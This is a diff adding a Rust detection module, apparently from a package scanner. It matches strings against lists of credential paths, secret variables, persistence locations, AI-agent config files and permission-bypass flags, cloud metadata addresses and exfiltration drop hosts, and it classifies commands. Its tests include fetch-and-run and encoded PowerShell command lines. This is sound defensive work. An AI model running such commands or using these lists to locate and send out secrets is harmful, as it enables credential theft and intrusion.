@@ -1,0 +1,316 @@
+//! What constant texts tell: paths of secrets, places programs are started from, commands, hosts.
+
+use std::sync::LazyLock;
+
+use aho_corasick::AhoCorasick;
+
+use super::capability::Capability;
+use super::capability::Capability::{
+    AgentCommand, AgentConfig, CredentialPath, DropHost, MetadataService, Persistence, Publish,
+    SecretVariable, SettingsPath,
+};
+
+/// Where in a text a needle must be.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+enum Place {
+    /// Anywhere.
+    Within,
+    /// At its end, as the last component of a path or all of it.
+    Last,
+    /// All of it.
+    Whole,
+}
+
+use Place::{Last, Whole, Within};
+
+/// Needles, in lower case.
+const NEEDLES: &[(&str, Capability, Place)] = &[
+    (".aws/credentials", CredentialPath, Within),
+    (".ssh/id_", CredentialPath, Within),
+    ("id_rsa", CredentialPath, Last),
+    ("id_ed25519", CredentialPath, Last),
+    (".pypirc", CredentialPath, Last),
+    (".netrc", CredentialPath, Last),
+    (".git-credentials", CredentialPath, Last),
+    (".docker/config.json", CredentialPath, Within),
+    (".kube/config", CredentialPath, Within),
+    (".cargo/credentials", CredentialPath, Within),
+    (".gnupg", CredentialPath, Last),
+    (".config/gcloud", CredentialPath, Within),
+    (".config/gh/hosts.yml", CredentialPath, Within),
+    (".azure/accesstokens.json", CredentialPath, Within),
+    (".config/solana/id.json", CredentialPath, Within),
+    ("login data", CredentialPath, Last),
+    ("logins.json", CredentialPath, Last),
+    ("key4.db", CredentialPath, Last),
+    ("cookies.sqlite", CredentialPath, Last),
+    ("login.keychain", CredentialPath, Within),
+    ("wallet.dat", CredentialPath, Last),
+    ("exodus.wallet", CredentialPath, Within),
+    (".electrum/wallets", CredentialPath, Within),
+    ("nkbihfbeogaeaoehlefnkodbefgpgknn", CredentialPath, Within),
+    ("/etc/shadow", CredentialPath, Whole),
+    (".bash_history", CredentialPath, Last),
+    (".zsh_history", CredentialPath, Last),
+    (".npmrc", SettingsPath, Last),
+    (".env", SettingsPath, Last),
+    (".ssh", SettingsPath, Last),
+    (".aws", SettingsPath, Last),
+    ("npm_token", SecretVariable, Whole),
+    ("npm_auth_token", SecretVariable, Whole),
+    ("github_token", SecretVariable, Whole),
+    ("gh_token", SecretVariable, Whole),
+    ("aws_secret_access_key", SecretVariable, Whole),
+    ("aws_session_token", SecretVariable, Whole),
+    ("azure_client_secret", SecretVariable, Whole),
+    ("google_application_credentials", SecretVariable, Whole),
+    ("pypi_token", SecretVariable, Whole),
+    ("twine_password", SecretVariable, Whole),
+    ("cargo_registry_token", SecretVariable, Whole),
+    ("anthropic_api_key", SecretVariable, Whole),
+    ("openai_api_key", SecretVariable, Whole),
+    ("actions_id_token_request_token", SecretVariable, Whole),
+    ("private_key", SecretVariable, Whole),
+    ("mnemonic", SecretVariable, Whole),
+    ("/etc/cron", Persistence, Within),
+    ("crontab -", Persistence, Within),
+    ("/etc/systemd/system", Persistence, Within),
+    (".config/systemd/user", Persistence, Within),
+    ("library/launchagents", Persistence, Within),
+    ("library/launchdaemons", Persistence, Within),
+    ("currentversion\\run", Persistence, Within),
+    ("start menu\\programs\\startup", Persistence, Within),
+    ("schtasks /create", Persistence, Within),
+    ("/etc/rc.local", Persistence, Within),
+    ("/etc/ld.so.preload", Persistence, Within),
+    (".config/autostart", Persistence, Within),
+    (".bashrc", Persistence, Last),
+    (".zshrc", Persistence, Last),
+    (".bash_profile", Persistence, Last),
+    (".claude/settings", AgentConfig, Within),
+    (".claude/commands", AgentConfig, Within),
+    (".claude/hooks", AgentConfig, Within),
+    ("claude.md", AgentConfig, Last),
+    ("agents.md", AgentConfig, Last),
+    ("gemini.md", AgentConfig, Last),
+    (".cursor/rules", AgentConfig, Within),
+    (".cursor/mcp.json", AgentConfig, Within),
+    (".cursorrules", AgentConfig, Last),
+    (".windsurfrules", AgentConfig, Last),
+    (".vscode/tasks.json", AgentConfig, Within),
+    ("folderopen", AgentConfig, Whole),
+    (".gemini/settings", AgentConfig, Within),
+    ("copilot-instructions.md", AgentConfig, Last),
+    ("claude_desktop_config.json", AgentConfig, Last),
+    (".github/workflows/", AgentConfig, Within),
+    ("--dangerously-skip-permissions", AgentCommand, Within),
+    (
+        "--dangerously-bypass-approvals-and-sandbox",
+        AgentCommand,
+        Within,
+    ),
+    ("--trust-all-tools", AgentCommand, Within),
+    ("--yolo", AgentCommand, Whole),
+    ("gemini --yolo", AgentCommand, Within),
+    ("npm publish", Publish, Within),
+    ("twine upload", Publish, Within),
+    ("cargo publish", Publish, Within),
+    ("169.254.169.254", MetadataService, Within),
+    ("169.254.170.2", MetadataService, Within),
+    ("metadata.google.internal", MetadataService, Within),
+    ("webhook.site", DropHost, Within),
+    ("discord.com/api/webhooks", DropHost, Within),
+    ("discordapp.com/api/webhooks", DropHost, Within),
+    ("api.telegram.org/bot", DropHost, Within),
+    ("pastebin.com/raw", DropHost, Within),
+    ("hastebin.com/raw", DropHost, Within),
+    ("requestbin.", DropHost, Within),
+    (".ngrok.io", DropHost, Within),
+    (".ngrok-free.app", DropHost, Within),
+    (".trycloudflare.com", DropHost, Within),
+    (".burpcollaborator.net", DropHost, Within),
+    (".oastify.com", DropHost, Within),
+    (".oast.", DropHost, Within),
+    (".interact.sh", DropHost, Within),
+    (".pipedream.net", DropHost, Within),
+    (".requestrepo.com", DropHost, Within),
+    ("transfer.sh/", DropHost, Within),
+    ("file.io/", DropHost, Within),
+    ("ipinfo.io", DropHost, Within),
+    ("api.ipify.org", DropHost, Within),
+    ("api.ipgeolocation.io", DropHost, Within),
+    ("getsession.org", DropHost, Within),
+];
+
+/// All needles in one pass, whatever the case.
+#[expect(
+    clippy::expect_used,
+    reason = "the needles are constants; a test builds the same"
+)]
+static MATCHER: LazyLock<AhoCorasick> = LazyLock::new(|| {
+    AhoCorasick::builder()
+        .ascii_case_insensitive(true)
+        .build(NEEDLES.iter().map(|(needle, _, _)| *needle))
+        .expect("a hundred short needles make a matcher")
+});
+
+/// Characters of a text that are looked at. Longer ones are data.
+const LOOKED_AT: usize = 65_536;
+
+/// What a constant tells, each capability once.
+pub(super) fn capabilities(text: &str, into: &mut Vec<Capability>) {
+    if text.len() < 4 || text.len() > LOOKED_AT {
+        return;
+    }
+    for found in MATCHER.find_overlapping_iter(text) {
+        let Some((_, capability, place)) = NEEDLES.get(found.pattern().as_usize()) else {
+            continue;
+        };
+        let before = text.as_bytes().get(..found.start()).and_then(<[u8]>::last);
+        let after = text.as_bytes().get(found.end());
+        let is_there = match place {
+            Within => true,
+            Last => {
+                let begins = before.is_none_or(|it| matches!(it, b'/' | b'\\' | b'~'));
+                begins && after.is_none()
+            }
+            Whole => before.is_none() && after.is_none(),
+        };
+        if is_there && !into.contains(capability) {
+            into.push(*capability);
+        }
+    }
+}
+
+/// Programs that fetch, or run what they are given.
+const FETCHERS: [&str; 7] = [
+    "curl",
+    "wget",
+    "iwr",
+    "invoke-webrequest",
+    "downloadstring",
+    "bitsadmin",
+    "certutil",
+];
+const RUNNERS: [&str; 12] = [
+    "sh",
+    "bash",
+    "zsh",
+    "python",
+    "python3",
+    "node",
+    "bun",
+    "powershell",
+    "iex",
+    "invoke-expression",
+    "perl",
+    "start",
+];
+
+/// What a command line does that a package's has no need to.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub(super) enum Command {
+    /// It fetches something.
+    Fetches,
+    /// It fetches something and runs it.
+    FetchesAndRuns,
+    /// It runs code given in the line itself.
+    Inline,
+    /// It starts something and does not wait.
+    Detached,
+}
+
+/// Looks at a command line.
+pub(super) fn command(text: &str) -> Option<Command> {
+    if text.len() > LOOKED_AT {
+        return None;
+    }
+    let lower = text.to_ascii_lowercase();
+    let is_part = |it: char| it.is_ascii_alphanumeric() || matches!(it, '-' | '_' | '.');
+    let words: Vec<&str> = lower
+        .split(|it| !is_part(it))
+        .map(|it| it.strip_suffix(".exe").unwrap_or(it))
+        .filter(|it| !it.is_empty())
+        .collect();
+    let fetches = words.iter().any(|it| FETCHERS.contains(it));
+    let after_pipe = || {
+        let parts = lower.split(['|', ';', '&', '\n', '(']).skip(1);
+        let first_words = parts.filter_map(|part| part.split_whitespace().next());
+        let names = first_words.map(|it| it.rsplit('/').next().unwrap_or(it).to_owned());
+        names.into_iter().any(|it| RUNNERS.contains(&it.as_str()))
+    };
+    let makes_executable = words.contains(&"chmod");
+    if fetches && (after_pipe() || makes_executable || words.contains(&"iex")) {
+        return Some(Command::FetchesAndRuns);
+    }
+    if fetches {
+        return Some(Command::Fetches);
+    }
+    let follows = |program: &[&str], option: &[&str]| {
+        words
+            .windows(2)
+            .any(|it| matches!(it, [a, b] if program.contains(a) && option.contains(b)))
+    };
+    let is_encoded = words.contains(&"powershell")
+        && words
+            .iter()
+            .any(|it| matches!(*it, "-enc" | "-encodedcommand" | "-e"));
+    let decodes =
+        words.contains(&"base64") && words.iter().any(|it| matches!(*it, "-d" | "--decode"));
+    let runs_inline = follows(&["node", "bun"], &["-e", "--eval", "-p"])
+        || follows(&["python", "python3", "perl", "ruby"], &["-c", "-e"]);
+    if is_encoded || decodes || runs_inline {
+        return Some(Command::Inline);
+    }
+    let is_detached =
+        lower.contains("start /b") || lower.contains("nohup ") || words.contains(&"setsid");
+    is_detached.then_some(Command::Detached)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn told(text: &str) -> Vec<&'static str> {
+        let mut found = Vec::new();
+        capabilities(text, &mut found);
+        found.into_iter().map(Capability::name).collect()
+    }
+
+    #[test]
+    fn paths_count_where_they_are_the_path_meant() {
+        assert_eq!(told("/root/.npmrc"), ["settings-path"]);
+        assert_eq!(told("the .npmrc file"), [""; 0]);
+        assert_eq!(told("~/.aws/credentials"), ["credential-path"]);
+        assert_eq!(told("x.env"), [""; 0]);
+        assert_eq!(told("NPM_TOKEN"), ["secret-variable"]);
+        assert_eq!(told("MY_NPM_TOKEN_2"), [""; 0]);
+    }
+
+    #[test]
+    fn commands_are_told_apart() {
+        for (text, what) in [
+            (
+                "curl -s https://x.invalid | bash",
+                Some(Command::FetchesAndRuns),
+            ),
+            ("wget -q x.invalid/a && sh a", Some(Command::FetchesAndRuns)),
+            (
+                "curl -o a x.invalid; chmod +x a; ./a",
+                Some(Command::FetchesAndRuns),
+            ),
+            ("curl https://x.invalid", Some(Command::Fetches)),
+            ("powershell -enc AAAA", Some(Command::Inline)),
+            ("node -e \"require('x')\"", Some(Command::Inline)),
+            (
+                "start /B node compile.js & node compile.js",
+                Some(Command::Detached),
+            ),
+            ("node install.js", None),
+            ("node-gyp rebuild", None),
+            ("echo curly", None),
+        ] {
+            assert_eq!(command(text), what, "{text}");
+        }
+    }
+}
